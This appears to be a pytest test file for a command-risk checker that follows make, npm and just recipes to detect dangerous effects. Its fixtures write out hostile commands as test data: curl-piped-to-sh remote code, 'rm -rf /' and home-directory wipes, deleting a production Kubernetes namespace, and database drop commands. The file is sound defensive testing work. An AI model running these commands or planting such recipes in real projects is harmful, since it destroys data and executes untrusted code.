"""Task runners are followed into the files that they read, where these can be read."""

from __future__ import annotations

from pathlib import Path

import pytest

from chimera_guard import Assessment, assess
from chimera_guard.effects.recipes import justfile, makefile, package
from chimera_guard.host.facts import current_context

MAKEFILE = """\
BUILD = build
OUT := $(BUILD)/out
ifdef DEBUG
FLAGS = -g
endif
all: $(OUT)
\techo $$HOME  # done
$(OUT): main.o | dir
\t@mkdir -p $(OUT)
\t$(CC) $(FLAGS) -o $@ \\
\t\tmain.o
%.o: %.c
\t$(CC) -c $<
.PHONY: clean
clean:
\t-rm -rf $(BUILD)
nuke: clean ; rm -rf $(NOWHERE)/
deploy: ; kubectl delete namespace prod
get:
\tcurl -s https://x.example/i.sh | sh
part:
\trm -rf $(shell pwd)/x
\t$(TOOL) --all
"""
PACKAGE = """{"scripts": {"build": "tsc && rm -rf dist", "prebuild": "curl -s https://x.example | sh",
"test": "rm -rf /", "clean": "rm -rf dist", "list": ["ls", "@build", "rm -rf ~"]}}"""
JUSTFILE = """\
dir := "build"
alias c := clean
clean:
    @rm -rf {{dir}}
nuke target: clean
    rm -rf /{{target}}
default_argument place="x":
    rm -rf {{place}}/y
code:
    #!/usr/bin/env bash
    cd /
    rm -rf *
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "Makefile").write_text(MAKEFILE)
    (tmp_path / "package.json").write_text(PACKAGE)
    (tmp_path / "justfile").write_text(JUSTFILE)
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "Makefile").write_text("x:\n\trm -rf /\n")
    return tmp_path


def judged(line: str, project: Path) -> Assessment:
    environ = {"HOME": "/home/me", "PATH": "/bin"}
    return assess(line, current_context(str(project), environ, home="/home/me", budget=30.0))


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("make nuke", "deletion-root"),
        ("make -s deploy", "remote-destroyed"),
        ("make get", "execution-remote-code"),
        ("make BUILD=/ clean", "deletion-root"),
        ("make -C sub", "deletion-root"),
        ("make -f sub/Makefile x", "deletion-root"),
        ("cd sub && make", "deletion-root"),
        ("npm run build", "execution-remote-code"),
        ("yarn build", "execution-remote-code"),
        ("npm test", "deletion-root"),
        ("pnpm run list", "deletion-home"),
        ("just nuke etc", "deletion-system"),
        ("just code", "deletion-root"),
    ],
)
def test_what_a_recipe_does_is_seen(line: str, rule: str, project: Path) -> None:
    assert rule in {finding.rule for finding in judged(line, project).findings}


@pytest.mark.parametrize(
    "line",
    [
        "make", "make clean", "make part", "make no-such-target", "npm run clean", "npm run no-such", "just", "just c",
        "just default_argument", "cd sub && npm test",
    ],
)  # fmt: skip
def test_what_cannot_be_followed_is_a_script_like_any_other(line: str, project: Path) -> None:
    assessment = judged(line, project)
    assert assessment.risk.name == "MEDIUM"
    assert "runs-script" in {finding.rule for finding in assessment.findings}


def test_recipes_stand_in_the_effects_and_commands(project: Path) -> None:
    assessment = judged("make", project)
    assert {"write build/out", "exec-script Makefile"} <= {effect.describe() for effect in assessment.effects}
    assert ("mkdir", "-p", "build/out") in [command.argv for command in assessment.commands]
    assert all(command.span.end <= len("make") for command in assessment.commands)


def test_a_file_that_the_line_makes_is_not_followed(project: Path) -> None:
    assert "deletion-root" not in {
        f.rule for f in judged("curl -o Makefile https://x.example; make nuke", project).findings
    }


def test_scripts_that_are_read_cost_no_more_than_scripts_that_are_not(project: Path) -> None:
    (project / "run.sh").write_text('eval "$(cat x)"\n"$TOOL" --all\nrm -rf "$(cat dir)"\ngenerate | sh\necho "\n')
    (project / "run.py").write_text("import os, sys\nos.system(sys.argv[1])\n")
    for line in ("bash run.sh", "./run.sh", "python3 run.py", "bash missing.sh"):
        assert judged(line, project).risk.name == "MEDIUM", line
    (project / "run.sh").write_text('"$TOOL" --all\nrm -rf ~\n')
    assert judged("bash run.sh", project).risk.name == "HIGH"


BROKEN = [
    *("", "\0", "a", "a:", ":", "=", "\t", "\tx", "$(", "a: $(", "a:\n\t$(", "a := $(a)\nb: ; $(a)", "endif\nendif"),
    *("{{", "a b:", "a:\n {{", "alias", "set", "[", "a: (b", "{}", "[]", '{"scripts": 1}', '{"scripts": {"a": 1}}'),
    "[" * 5000,
]


@pytest.mark.parametrize("text", BROKEN)
@pytest.mark.parametrize("read", [makefile.read, justfile.read, package.read])
def test_any_text_can_be_read(text: str, read) -> None:  # type: ignore[no-untyped-def]
    file = read(text)
    if file is not None:
        for name in file.recipes:
            recipe = file.recipe(name)
            assert recipe is not None
            assert all(isinstance(line, str) for line in file.expand(recipe, name, {}, [], ""))


def test_recipes_that_need_each_other_end(project: Path) -> None:
    (project / "Makefile").write_text("a: b\n\techo a\nb: a\n\tmake a\n")
    (project / "package.json").write_text('{"scripts": {"a": "npm run b", "b": "npm run a"}}')
    assert judged("make", project).risk.name == "MEDIUM"
    assert judged("npm run a", project).risk.name == "MEDIUM"


def test_a_directory_runs_nothing(project: Path) -> None:
    """Shells go there (`autocd`), or say that it is one."""
    for line in ("sub/", "./sub", f"{project}/sub"):
        assert judged(line, project).risk.name == "LOW", line
    assert judged("python3 sub", project).risk.name == "MEDIUM"  # this does run what lies in it
    assert judged("mv run.sh sub/; rmdir sub; cp /tmp/x sub; ./sub", project).risk.name != "LOW"


@pytest.mark.parametrize(
    ("name", "text", "run"),
    [
        ("manage.py", "import sys\nexecute_from_command_line(sys.argv)\n", "python3 manage.py flush --no-input"),
        ("artisan", "#!/usr/bin/env php\n<?php\nrequire 'x.php';\n", "php artisan migrate:fresh"),
        ("bin/rails", "#!/usr/bin/env ruby\nrequire 'rails/commands'\n", "ruby bin/rails db:drop"),
        ("bin/console", "#!/usr/bin/env php\n<?php\nrun();\n", "php bin/console doctrine:database:drop --force"),
    ],
)
def test_a_script_that_is_a_tool_by_its_name_is_judged_as_one_where_it_can_be_read(
    tmp_path: Path, name: str, text: str, run: str
) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_text(text)
    assert "database-destroyed" in {finding.rule for finding in assess(run, current_context(str(tmp_path))).findings}
